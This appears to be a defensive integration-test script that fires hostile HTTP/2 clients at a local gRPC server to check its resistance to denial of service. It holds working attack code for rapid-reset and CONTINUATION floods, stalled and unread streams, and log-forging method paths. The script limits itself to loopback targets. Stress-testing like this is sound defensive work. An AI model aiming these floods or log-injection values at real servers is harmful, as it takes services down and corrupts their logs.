#!/usr/bin/python3
"""hostile.py - hostile and careless gRPC clients against a psd on loopback,
used by tests/it_hostile.sh. The attacker speaks HTTP/2 itself (frames and
HPACK written by hand here, independent of gRPC) so it can do what no gRPC
library would: open streams and never send the request, never open the flow
control window for a reply, or reset every stream right after its HEADERS
(the CVE-2023-44487 "rapid reset" class). While an attack runs, a
well-behaved client (Python grpcio) keeps calling Health/Check, Status and
GetParameters, and psd's RSS is sampled from /proc.

Only loopback targets are accepted; every loop is bounded in count and time.

  hostile.py ATTACK HOST PORT PSD_PID SECONDS [options]
    ATTACK: stall   N streams (over several connections) that send HEADERS
                    and never their message
            silent  N GetParameters calls whose replies are never given flow
                    control window (a silent reader)
            reset   HEADERS + RST_STREAM pairs, as fast as one connection
                    takes them (at most --max-streams)
            deaf    N GetParameters calls on one connection that is never
                    read again (no flow control window, no PING answered)
            continuation
                    one stream's HEADERS without END_HEADERS, then
                    CONTINUATION frames of small headers as fast as psd takes
                    them, never ending the header block (the 2024 HTTP/2
                    "CONTINUATION flood") and never reading; a new connection
                    when psd closes one
  options: --tls CA CERT KEY  (mutual TLS, server name "localhost")
           --token T          attacker's token ('' = none)
           --good-token T     well-behaved client's token
           --n N              streams for stall/silent (default 600)
           --max-rss-mb M     assert: RSS growth below M MiB
           --max-latency-s S  assert: every good call answered within S s
           --expect-ended S   stall: assert psd ended every stream, each within
                              S s (server.recv_timeout_s) of its opening;
                              silent: psd accepted some streams (began their
                              replies) and ended each within S s
                              (server.send_timeout_s) of its reply's start
                              (refused streams do not count); + ENDED_SLACK
  The attack runs SECONDS, and on while a well-behaved call is in flight
  (until it is answered or has waited S + 1 s): a call the attack starves
  fails the run however short SECONDS is.

Prints one line of figures:
  ATTACK: rss growth X MiB (peak Y MiB), good calls N ok / F failed, worst latency L s, ...
and exits 1 when an asserted bound is broken.
"""
import argparse
import select
import socket
import ssl
import struct
import sys
import threading
import time

LOOPBACK = ("127.", "::1", "localhost")


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def hpack_str(s):
    b = s.encode()
    assert len(b) < 127 or True
    # length with a 7-bit prefix, no Huffman
    out = bytearray()
    n = len(b)
    if n < 127:
        out.append(n)
    else:
        out.append(127)
        n -= 127
        while n >= 128:
            out.append((n & 0x7F) | 0x80)
            n >>= 7
        out.append(n)
    return bytes(out) + b


def headers_block(path, authority, scheme, token):
    # :method POST (static 3), :scheme http/https (6/7); literals without indexing
    block = bytearray([0x83, 0x87 if scheme == "https" else 0x86])
    block += b"\x04" + hpack_str(path)           # :path, name index 4
    block += b"\x01" + hpack_str(authority)      # :authority, name index 1
    block += b"\x0f\x10" + hpack_str("application/grpc")  # content-type, index 31
    block += b"\x00" + hpack_str("te") + hpack_str("trailers")
    if token:
        block += b"\x00" + hpack_str("authorization") + hpack_str("Bearer " + token)
    return bytes(block)


class H2Conn:
    """One raw HTTP/2 connection, driven from one thread (an SSL object must
    not be read and written concurrently): pump() drains what psd sent,
    answers SETTINGS and PING (never WINDOW_UPDATE: the attacker decides flow
    control), and counts RST_STREAM, GOAWAY and trailers (ended calls)."""

    def __init__(self, host, port, tls, window=None, source=None, connect_timeout=10):
        s = socket.create_connection((host, port), timeout=connect_timeout,
                                     source_address=(source, 0) if source else None)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.scheme = "http"
        if tls:
            ca, cert, key = tls
            ctx = ssl.create_default_context(cafile=ca)
            ctx.load_cert_chain(cert, key)
            ctx.set_alpn_protocols(["h2"])
            s = ctx.wrap_socket(s, server_hostname="localhost")
            self.scheme = "https"
        s.settimeout(2.0)  # every send is bounded in time
        self.sock = s
        self.closed = False
        self.stalled = False  # closed by us: psd did not read a send for 2 s (not a close by psd)
        self.rst = 0
        self.headers = 0
        self.goaway = 0
        self.next_id = 1
        self.ended = set()  # streams psd ended (trailers or RST_STREAM)
        self.data = set()   # streams that got a reply message
        # when (monotonic s, as pump() saw it): each stream was opened, psd
        # began its reply (HEADERS without END_STREAM: it accepted the call
        # and ran it), psd ended it; and when the connection closed
        self.t_open, self.t_reply, self.t_end = {}, {}, {}
        self.t_closed = None
        self.buf = b""
        settings = b""
        if window is not None:  # SETTINGS_INITIAL_WINDOW_SIZE
            settings = struct.pack(">HI", 4, window)
        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, settings))

    def send(self, data):
        self.sock.sendall(data)

    def pump(self, max_bytes=1 << 20):
        """Read what is there (without waiting) and handle whole frames."""
        got = 0
        try:
            while got < max_bytes:
                pending = self.sock.pending() if isinstance(self.sock, ssl.SSLSocket) else 0
                if not pending and not select.select([self.sock], [], [], 0)[0]:
                    break
                chunk = self.sock.recv(65536)
                if not chunk:
                    self.closed = True
                    self.t_closed = self.t_closed or time.monotonic()
                    break
                got += len(chunk)
                self.buf += chunk
        except (ssl.SSLWantReadError, BlockingIOError, socket.timeout):
            pass
        except OSError:
            self.closed = True
            self.t_closed = self.t_closed or time.monotonic()
        now = time.monotonic()
        out = b""
        while len(self.buf) >= 9:
            ln = struct.unpack(">I", b"\0" + self.buf[:3])[0]
            if len(self.buf) < 9 + ln:
                break
            ftype, flags = self.buf[3], self.buf[4]
            sid = struct.unpack(">I", self.buf[5:9])[0] & 0x7FFFFFFF
            payload = self.buf[9:9 + ln]
            self.buf = self.buf[9 + ln:]
            if ftype == 4 and not flags & 1:
                out += frame(4, 1, 0)
            elif ftype == 6 and not flags & 1:
                out += frame(6, 1, 0, payload)
            elif ftype == 3:
                self.rst += 1
                self.ended.add(sid)
                self.t_end.setdefault(sid, now)
            elif ftype == 1 and flags & 1:  # trailers: the call ended
                self.headers += 1
                self.ended.add(sid)
                self.t_end.setdefault(sid, now)
            elif ftype == 1:  # response headers: the reply began
                self.t_reply.setdefault(sid, now)
            elif ftype == 0 and ln > 5:  # a reply message
                self.data.add(sid)
            elif ftype == 7:
                self.goaway += 1
        if out and not self.closed:
            try:
                self.send(out)
            except OSError:
                self.closed = True

    def open_stream(self, path, authority, token, message=None):
        sid = self.next_id
        self.next_id += 2
        block = headers_block(path, authority, self.scheme, token)
        data = frame(1, 0x4, sid, block)  # END_HEADERS, stream stays open
        if message is not None:
            body = b"\0" + struct.pack(">I", len(message)) + message
            data += frame(0, 0x1, sid, body)  # END_STREAM
        self.t_open[sid] = time.monotonic()
        self.send(data)
        return sid

    def send_stalled(self):
        """A send was not taken for 2 s: did psd close the connection (its
        FIN or reset is there to read: a socket psd shut down takes no more
        data, so a loaded psd that has not yet released it makes the send
        wait too) or does psd just not read it? Marks the connection closed,
        and stalled in the second case."""
        self.closed = True
        t0 = time.monotonic()
        try:
            self.sock.settimeout(0.5)
            while time.monotonic() - t0 < 1.0:
                if not self.sock.recv(65536):
                    return  # EOF: psd closed it
        except (ConnectionResetError, BrokenPipeError, ssl.SSLEOFError, ssl.SSLZeroReturnError):
            return
        except OSError:  # socket.timeout, other SSL errors: nothing came
            pass
        self.stalled = True

    def close(self):
        self.closed = True
        try:
            self.sock.close()
        except Exception:
            pass


class Monitor:
    """A monitor on an attacker's host: its own raw HTTP/2 connection from
    the attacker's source address (and token), one Health/Check at a time,
    timing each until its reply message arrives."""

    def __init__(self, host, port, tls, source, token, authority):
        self.args = (host, port, tls, source, token, authority)
        self.conn = H2Conn(host, port, tls, source=source)
        self.lat = []
        self.failed = []

    def one(self, limit=10.0):
        c = self.conn
        host, port, tls, source, token, authority = self.args
        t0 = time.monotonic()
        sid = c.open_stream("/grpc.health.v1.Health/Check", authority, token, b"")
        while time.monotonic() - t0 < limit and not c.closed:
            c.pump()
            if sid in c.ended:
                break
            time.sleep(0.002)
        dt = time.monotonic() - t0
        if sid in c.data:
            self.lat.append(dt)
        else:
            self.failed.append(f"monitor's Health/Check {'refused' if sid in c.ended else 'unanswered'} "
                               f"after {dt:.2f} s")
        return dt


def rss_mb(pid):
    """psd's resident set in MiB (also for hostile_ctx.py, hostile_ssp.py); None when psd is gone."""
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1]) / 1024.0
    except OSError:
        return None
    return None


class Good:
    """The well-behaved client: Health/Check, Status and GetParameters in a
    loop (grpcio), recording the worst latency and failures."""

    def __init__(self, target, tls, token):
        import grpc
        self.grpc = grpc
        opts = [("grpc.max_receive_message_length", 64 << 20)]
        if tls:
            ca, cert, key = tls
            creds = grpc.ssl_channel_credentials(open(ca, "rb").read(), open(key, "rb").read(),
                                                 open(cert, "rb").read())
            self.ch = grpc.secure_channel(target, creds, opts + [("grpc.ssl_target_name_override", "localhost")])
        else:
            self.ch = grpc.insecure_channel(target, opts)
        ident = lambda b: b
        self.md = [("authorization", "Bearer " + token)] if token else None
        self.calls = [self.ch.unary_unary(p, request_serializer=ident, response_deserializer=ident)
                      for p in ("/grpc.health.v1.Health/Check", "/ps.ParameterServer/Status",
                                "/ps.ParameterServer/GetParameters")]
        self.worst = 0.0
        self.worst_reserved = 0.0
        self.ok = 0
        self.failed = []
        self.stop = False
        self.lat = []
        self.since = None  # when the call in flight began (None: none in flight)

    def one(self, i, timeout=30):
        t0 = self.since = time.monotonic()
        try:
            r = self.calls[i](b"", timeout=timeout, metadata=self.md)
            dt = time.monotonic() - t0
            if i == 0 and r != b"\x08\x01":
                self.failed.append(f"health says {r!r} (not SERVING)")
            else:
                self.ok += 1
        except self.grpc.RpcError as e:
            dt = time.monotonic() - t0
            self.failed.append(f"{e.code().name}: {e.details()}")
        self.since = None
        self.worst = max(self.worst, dt)
        if i < 2:  # Health/Check, Status: the reserved methods
            self.worst_reserved = max(self.worst_reserved, dt)
        self.lat.append(dt)

    def loop(self, deadline):
        i = 0
        while not self.stop and time.monotonic() < deadline and i < 100000:
            self.one(i % 3)
            i += 1
            time.sleep(0.05)


ENDED_SLACK = 5.0  # s: psd's scan period (0.2 s), this loop's, a loaded machine


def expect_ended(a, conns, good):
    """--expect-ended S: every stream psd accepted is ended by psd within S
    (+ ENDED_SLACK) of the start of psd's clock for it: its opening (stall:
    waiting for its request message, refused or accepted alike), or the
    start of its reply (silent: psd accepted the call, ran it and began the
    reply the client never takes). Waits, pumping, for the streams still
    open until each is past its bound. Refused silent streams (ended with
    trailers, no reply) do not count, so that refusals alone never pass."""
    done = time.monotonic()  # the attack's end
    limit = a.expect_ended + ENDED_SLACK

    def start(c, sid):
        if a.attack == "stall":
            return c.t_open[sid]
        return c.t_reply.get(sid)

    def end(c, sid):
        return c.t_end.get(sid, c.t_closed)

    def bound(c, sid):  # a silent stream not yet replied: its reply is still to come
        t = start(c, sid)
        return (done if t is None else t) + limit

    streams = [(c, sid) for c in conns for sid in c.t_open]
    while True:
        for c in conns:
            c.pump()
        now = time.monotonic()
        left = [(c, sid) for c, sid in streams if end(c, sid) is None]
        if not left or all(now > bound(c, sid) for c, sid in left):
            break
        time.sleep(0.1)
    accepted = [(c, sid) for c, sid in streams if start(c, sid) is not None]
    late = [end(c, sid) - start(c, sid) for c, sid in accepted if end(c, sid) is not None and
            end(c, sid) - start(c, sid) > limit]
    what = "its opening" if a.attack == "stall" else "the start of its reply"
    key = "server.recv_timeout_s" if a.attack == "stall" else "server.send_timeout_s"
    if not accepted:
        good.failed.append(f"psd accepted none of the {len(streams)} streams (refused them all): nothing to end")
    if left:
        good.failed.append(f"{len(left)} of {len(streams)} streams ({sum(start(c, s) is not None for c, s in left)} "
                           f"accepted) never ended by psd, {time.monotonic() - done:.1f} s after the attack "
                           f"({key} = {a.expect_ended:g} s not enforced?)")
    if late:
        good.failed.append(f"{len(late)} accepted streams ended later than {limit:g} s after {what} "
                           f"(worst {max(late):.1f} s; {key} = {a.expect_ended:g} s)")
    spans = sorted(end(c, sid) - start(c, sid) for c, sid in accepted if end(c, sid) is not None)
    figures = (f" within {spans[-1]:.1f} s of {what} (median {spans[len(spans) // 2]:.1f} s; bound "
               f"{a.expect_ended:g} + {ENDED_SLACK:g} s)" if spans else "")
    return (f"; {len(spans)} of {len(accepted)} {'streams' if a.attack == 'stall' else 'accepted (reply begun)'} "
            f"ended by psd{figures}, waited {time.monotonic() - done:.1f} s after the attack")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("attack", choices=["stall", "silent", "reset", "reset-many", "forge", "deaf",
                                           "continuation"])
    ap.add_argument("--conns", type=int, default=300, help="reset-many: connections kept open")
    ap.add_argument("--rate", type=float, default=150, help="reset-many: resets a second per connection")
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("pid", type=int)
    ap.add_argument("seconds", type=float)
    ap.add_argument("--tls", nargs=3)
    ap.add_argument("--token", default="")
    ap.add_argument("--good-token", default="")
    ap.add_argument("--n", type=int, default=600)
    ap.add_argument("--source", default="127.0.0.2",
                    help="attacker's source address (another loopback address: another client)")
    ap.add_argument("--sources", type=int, default=1,
                    help="stall: attackers on this many addresses (127.0.0.2, .3, ...; one: --source), "
                         "each a client")
    ap.add_argument("--tokens", default="",
                    help="stall: comma-separated attacker tokens, each a client (from --source)")
    ap.add_argument("--status-streams", type=int, default=0,
                    help="stall: per attacker, also this many Status calls that never send their request")
    ap.add_argument("--keep-up", action="store_true",
                    help="stall: open new stalled streams as psd ends them, for the whole attack")
    ap.add_argument("--monitor", action="store_true",
                    help="stall: a monitor on the first attacker's host (its address and token) calls "
                         "Health/Check on a connection of its own; every call must be answered")
    ap.add_argument("--max-streams", type=int, default=2_000_000)
    ap.add_argument("--max-rss-mb", type=float)
    ap.add_argument("--max-latency-s", type=float)
    ap.add_argument("--min-ok", type=int, default=3, help="assert: at least this many well-behaved calls answered")
    ap.add_argument("--expect-ended", type=float, metavar="S",
                    help="stall/silent: assert psd ended every stream it accepted, each within S s (its "
                         "server.recv_timeout_s / send_timeout_s) and a slack")
    ap.add_argument("--expect-cut", action="store_true", help="reset: psd must close the connection")
    a = ap.parse_args()
    if not a.host.startswith(LOOPBACK) or not a.source.startswith(LOOPBACK):
        sys.exit("hostile.py: loopback targets only")
    a.seconds = min(a.seconds, 120.0)
    target = f"{a.host}:{a.port}"
    authority = target

    good = Good(target, a.tls, a.good_token)
    for _ in range(50):  # psd up and answering before the attack
        good.one(0, timeout=2)
        if good.ok:
            break
        time.sleep(0.1)
    good.ok, good.failed, good.worst, good.lat = 0, [], 0.0, []
    for _ in range(5):  # the well-behaved client's unloaded Health latency
        good.one(0, timeout=5)
    good_base = good.worst
    good.ok, good.failed, good.worst, good.worst_reserved, good.lat = 0, [], 0.0, 0.0, []
    monitor_base = 0.0
    if a.monitor:  # the monitor's unloaded latency, measured in this run
        m = Monitor(a.host, a.port, a.tls, a.source if a.tokens or a.sources == 1 else "127.0.0.2",
                    a.tokens.split(",")[0] if a.tokens else a.token, authority)
        for _ in range(10):
            m.one()
        m.conn.close()
        if m.failed or not m.lat:
            sys.exit(f"{a.attack}: FAIL: the monitor is not answered before the attack: {m.failed[:2]}")
        monitor_base = max(m.lat)
    rss0 = rss_mb(a.pid)
    peak = rss0
    t_end = time.monotonic() + a.seconds
    # The attack lasts SECONDS, and longer while a well-behaved call is in
    # flight: a call it starves then waits past its bound (max-latency-s,
    # else 10 s) and fails the run, however short SECONDS is. SECONDS need
    # only outlast the defence's own timeouts, not the latency bounds.
    hold = (a.max_latency_s if a.max_latency_s is not None else 10.0) + 1.0

    held_for = []  # when the attack went on past t_end for a call in flight

    def attacking():
        now = time.monotonic()
        if now < t_end:
            return True
        since = good.since
        if since is not None and now - since <= hold:
            held_for.append(now)
            return True
        return False

    gt = threading.Thread(target=good.loop, args=(t_end + hold + 5,), daemon=True)
    gt.start()

    conns = []
    sent = 0
    extra = ""
    try:
        if a.attack == "deaf":
            # a client that stops reading: psd's replies, the PING of its
            # graceful GOAWAY and everything else stay unread
            c = H2Conn(a.host, a.port, a.tls, source=a.source)
            conns.append(c)
            c.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            c.send(frame(4, 1, 0))  # acknowledges psd's SETTINGS unread
            for _ in range(a.n):
                c.open_stream("/ps.ParameterServer/GetParameters", authority, a.token, b"")
                sent += 1
            print("deaf: calls sent", flush=True)
            while attacking():
                peak = max(peak, rss_mb(a.pid) or 0)
                time.sleep(0.2)
            extra = f", {sent} GetParameters sent on a connection never read"
        elif a.attack == "forge":
            # method paths that would forge log lines (newline, ESC, journald priority)
            c = H2Conn(a.host, a.port, a.tls, source=a.source)
            conns.append(c)
            for p in ("/ps.ParameterServer/Forward\n2026-01-01T00:00:00.000Z psd[error] FORGED LINE\x1b[2J",
                      "/x\n<0>psd[error] FORGED PRIORITY"):
                c.open_stream(p, authority, a.token, b"")
                sent += 1
            for _ in range(20):
                c.pump()
                if c.rst + c.headers >= sent:
                    break
                time.sleep(0.1)
            extra = f", {sent} forged method paths sent, {c.rst + c.headers} answered"
        elif a.attack in ("stall", "silent"):
            per = 60  # streams per connection (at most what psd allows)
            path = "/ps.ParameterServer/GetParameters"
            msg = None if a.attack == "stall" else b""
            window = None if a.attack == "stall" else 0
            if a.tokens:
                who = [(a.source, t) for t in a.tokens.split(",")]
            elif a.sources == 1:
                who = [(a.source, a.token)]
            else:
                who = [(f"127.0.0.{2 + i}", a.token) for i in range(a.sources)]
            held = {w: [] for w in who}  # per attacker: its connections
            refused = 0  # connection attempts psd's listener refused while --keep-up replaced streams

            def stall_more(w, n, p, replacing=False):  # n more stalled streams of path p for attacker w
                nonlocal sent, refused
                src, tok = w
                while n > 0 and sent < 40 * a.n * len(who):
                    cs = held[w]
                    if not cs or cs[-1].closed or cs[-1].next_id // 2 - len(cs[-1].ended) >= per:
                        try:
                            c = H2Conn(a.host, a.port, a.tls, window=window, source=src,
                                       connect_timeout=3 if replacing else 10)
                        except OSError:
                            # a host at server.max_connections_per_client has
                            # its new connections dropped by the listener (the
                            # SYN never answered): the defence, not a failure of
                            # this script - try again at the next replacement
                            if not replacing:
                                raise
                            refused += 1
                            return
                        conns.append(c)
                        cs.append(c)
                    c = cs[-1]
                    c.open_stream(p, authority, tok, msg)
                    sent += 1
                    n -= 1
                    c.pump()

            opened_at = time.monotonic()
            for w in who:
                stall_more(w, a.n, path)
                if a.status_streams:
                    stall_more(w, a.status_streams, "/ps.ParameterServer/Status")
            mon = Monitor(a.host, a.port, a.tls, who[0][0], who[0][1], authority) if a.monitor else None
            last_up = time.monotonic()
            while attacking():
                peak = max(peak, rss_mb(a.pid) or 0)
                for c in conns:
                    c.pump()
                if a.keep_up and time.monotonic() - last_up >= 1.0:  # replace what psd ended
                    last_up = time.monotonic()
                    for w in who:
                        live = sum(c.next_id // 2 - len(c.ended) for c in held[w] if not c.closed)
                        if live < a.n:
                            stall_more(w, a.n - live, path, replacing=True)
                if mon:
                    mon.one()
                time.sleep(0.2)
            ended = sum(c.rst + c.headers for c in conns)
            extra = (f", {len(who)} attacker(s), {sent} streams opened on {len(conns)} connections, "
                     f"{ended} ended by psd within {time.monotonic() - opened_at:.0f} s")
            if refused:
                extra += f", {refused} new connection(s) refused by psd's listener (host at its cap)"
            if mon:
                ml = sorted(mon.lat) or [0]
                extra += (f"; monitor on {who[0][0]}: {len(mon.lat)} answered, {len(mon.failed)} not, median "
                          f"{ml[len(ml) // 2] * 1000:.0f} ms, worst {ml[-1]:.2f} s (baseline worst "
                          f"{monitor_base:.3f} s)")
                good.failed += mon.failed
                bound = max(1.0, 10 * monitor_base)
                if ml[-1] > bound:
                    good.failed.append(f"monitor worst {ml[-1]:.2f} s > {bound:.2f} s "
                                       f"(1 s, or 10x its unloaded worst {monitor_base:.3f} s)")
                if len(mon.lat) < 3:
                    good.failed.append(f"only {len(mon.lat)} monitor calls answered")
            if a.expect_ended is not None and not a.keep_up:
                extra += expect_ended(a, conns, good)
        elif a.attack == "continuation":
            # gRPC 1.51 keeps every header of a block that never ends: psd
            # must close the connection (it sees no call, only bytes)
            cont = b"".join(frame(9, 0, 1, b"\x00\x03abc\x03xyz") for _ in range(1000))
            c = None
            cut = slow = opened = 0
            last_sample = 0
            while attacking() and opened < 200:
                if c is None or c.closed:
                    if c is not None:
                        cut += not c.stalled
                        slow += c.stalled
                        c.close()
                    try:
                        c = H2Conn(a.host, a.port, a.tls, source=a.source)
                    except OSError:
                        c = None
                        time.sleep(0.1)
                        continue
                    opened += 1
                    conns.append(c)
                    block = headers_block("/ps.ParameterServer/Status", authority, c.scheme, a.token)
                    try:
                        c.send(frame(1, 0, 1, block))  # no END_HEADERS
                    except OSError:
                        c.closed = True
                        continue
                try:
                    c.send(cont)
                    sent += 1000
                except socket.timeout:
                    c.send_stalled()
                except OSError:
                    c.closed = True
                now = time.monotonic()
                if now - last_sample > 0.2:  # never reads: psd's SETTINGS stay unacknowledged
                    peak = max(peak, rss_mb(a.pid) or 0)
                    last_sample = now
            if c is not None and c.closed:
                cut += not c.stalled
                slow += c.stalled
            extra = (f", {sent} CONTINUATION frames sent ({sent / a.seconds:.0f}/s) on {opened} connections, "
                     f"{cut} closed by psd, {slow} given up (a send not read for 2 s)")
            if a.expect_cut and cut < 1:
                good.failed.append("psd never closed a connection whose header block never ends")
        elif a.attack == "reset-many":
            # rapid reset spread over many connections from one address,
            # each under the per-connection threshold (issue 23 item 2)
            live = []
            opened = 0
            cut = 0
            slow = 0
            most = 0
            block = None

            def connect():
                nonlocal opened
                if opened >= 20 * a.conns:
                    return None
                try:
                    # short: once the host is at server.max_connections_per_client
                    # psd's listener drops its SYNs, and a blocked connect would
                    # stop the resets on the connections it has
                    c = H2Conn(a.host, a.port, a.tls, source=a.source, connect_timeout=1)
                except OSError:
                    return None
                opened += 1
                conns.append(c)
                return c

            for _ in range(a.conns):
                c = connect()
                if not c:
                    break  # refused: reset on what it has, and try again each round
                live.append(c)
            live += [None] * (a.conns - len(live))
            last_sample = 0
            per_round = 10
            while attacking() and sent < a.max_streams:
                t_round = time.monotonic()
                may_connect = True  # until a connect is refused this round
                for i, c in enumerate(live):
                    if c is None or c.closed:
                        if c is not None:
                            cut += not c.stalled
                            slow += c.stalled
                            c.close()
                        live[i] = c = connect() if may_connect else None
                        if c is None:
                            may_connect = False
                            continue
                    if block is None:
                        block = headers_block("/ps.ParameterServer/GetParameters", authority, c.scheme, a.token)
                    burst = bytearray()
                    for _ in range(per_round):
                        sid = c.next_id
                        c.next_id += 2
                        burst += frame(1, 0x4, sid, block) + frame(3, 0, sid, struct.pack(">I", 8))
                    try:
                        c.send(bytes(burst))
                        sent += per_round
                    except socket.timeout:
                        c.send_stalled()
                        continue
                    except OSError:
                        c.closed = True
                        continue
                    c.pump()
                most = max(most, sum(1 for c in live if c is not None and not c.closed))
                now = time.monotonic()
                if now - last_sample > 0.2:
                    peak = max(peak, rss_mb(a.pid) or 0)
                    last_sample = now
                # each connection stays under a.rate resets a second
                time.sleep(max(0.0, per_round / a.rate - (time.monotonic() - t_round)))
            for c in live:
                if c is not None and c.closed:
                    cut += not c.stalled
                    slow += c.stalled
            extra = (f", {sent} HEADERS+RST_STREAM pairs sent ({sent / a.seconds:.0f}/s) on {opened} "
                     f"connections ({a.conns} kept open, at most {a.rate:.0f} resets/s each), "
                     f"{cut} closed by psd, {slow} given up (a send not read for 2 s)")
            if a.expect_cut and cut < 1:
                good.failed.append("psd never closed a resetting connection")
        else:
            c = H2Conn(a.host, a.port, a.tls, source=a.source)
            conns.append(c)
            block = headers_block("/ps.ParameterServer/GetParameters", authority, c.scheme, a.token)
            last_sample = 0
            cut = 0
            slow = 0
            while attacking() and sent < a.max_streams and len(conns) < 2000:
                if c.closed:  # psd closed it (or did not read it): come back on a new connection
                    cut += not c.stalled
                    slow += c.stalled
                    try:
                        c = H2Conn(a.host, a.port, a.tls, source=a.source)
                    except OSError:
                        time.sleep(0.01)
                        continue
                    conns.append(c)
                burst = bytearray()
                for _ in range(200):
                    sid = c.next_id
                    c.next_id += 2
                    if sid >= 1 << 31:
                        break
                    burst += frame(1, 0x4, sid, block) + frame(3, 0, sid, struct.pack(">I", 8))
                    sent += 1
                try:
                    c.send(bytes(burst))
                except socket.timeout:  # not taken for 2 s: closed by psd, or not read
                    c.send_stalled()
                    continue
                except OSError:  # psd closed it
                    c.closed = True
                    continue
                c.pump()
                now = time.monotonic()
                if now - last_sample > 0.2:
                    peak = max(peak, rss_mb(a.pid) or 0)
                    last_sample = now
                if c.next_id >= 1 << 31:  # stream ids exhausted: a new connection
                    c = H2Conn(a.host, a.port, a.tls, source=a.source)
                    conns.append(c)
            extra = (f", {sent} HEADERS+RST_STREAM pairs sent ({sent / a.seconds:.0f}/s) on "
                     f"{len(conns)} connection(s), {cut} closed by psd, {slow} given up (a send not read for 2 s)")
            if a.expect_cut and cut < 1:
                good.failed.append("psd never closed the resetting connection")
    finally:
        for c in conns:
            c.close()
    if held_for:
        extra += (f"; went on {held_for[-1] - t_end:.1f} s past its {a.seconds:g} s for a well-behaved call "
                  "in flight")
    time.sleep(1.0)
    peak = max(peak, rss_mb(a.pid) or 0)
    good.stop = True
    gt.join(timeout=40)
    rss1 = rss_mb(a.pid)
    if rss1 is None:
        print(f"{a.attack}: FAIL: psd (pid {a.pid}) is gone")
        sys.exit(1)
    growth = peak - rss0
    lat = sorted(good.lat) or [0]
    print(f"{a.attack}: psd rss {rss0:.0f} MiB -> peak {peak:.0f} MiB (growth {growth:.0f} MiB), "
          f"well-behaved client: {good.ok} calls ok, {len(good.failed)} failed, median latency "
          f"{lat[len(lat) // 2] * 1000:.0f} ms, worst {good.worst:.2f} s (Health/Status "
          f"{good.worst_reserved:.2f} s){extra}")
    bad = []
    if good.failed:
        bad.append(f"well-behaved calls failed: {good.failed[:3]}")
    if good.ok < a.min_ok:
        bad.append(f"only {good.ok} well-behaved calls completed (want {a.min_ok})")
    if a.max_rss_mb is not None and growth > a.max_rss_mb:
        bad.append(f"RSS grew {growth:.0f} MiB > {a.max_rss_mb} MiB")
    gbound = max(1.0, 10 * good_base)
    if a.monitor and good.worst_reserved > gbound:  # the reserved methods answer within 1 s (issue 23)
        bad.append(f"well-behaved Health/Status worst {good.worst_reserved:.2f} s > {gbound:.2f} s "
                   f"(1 s, or 10x its unloaded worst {good_base:.3f} s)")
    if a.max_latency_s is not None and good.worst > a.max_latency_s:
        bad.append(f"worst latency {good.worst:.1f} s > {a.max_latency_s} s")
    if bad:
        print(f"{a.attack}: FAIL: " + "; ".join(bad))
        sys.exit(1)


if __name__ == "__main__":
    main()
